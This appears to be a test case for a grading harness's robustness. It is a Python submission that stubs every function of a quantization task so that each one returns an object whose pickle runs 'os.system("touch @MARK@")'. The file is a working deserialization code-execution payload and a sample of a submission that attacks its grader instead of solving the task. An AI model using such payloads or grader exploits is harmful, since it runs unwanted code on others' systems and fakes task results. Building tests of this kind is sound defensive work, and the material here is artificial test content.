# category: payload
# wins if: file
# naive: robustness
"""Returns an object whose pickle runs a command."""
import os


class Command:
    def __reduce__(self):
        return os.system, ("touch @MARK@",)


def answer(*args, **kwargs):
    return Command()


symmetric_quantization = asymmetric_quantization = dequantize = answer
per_channel_quantization = group_quantization = pack_int4 = unpack_int4 = answer
compute_sqnr = compute_cosine_sim = compute_kl_div = BasicQuantizer = answer
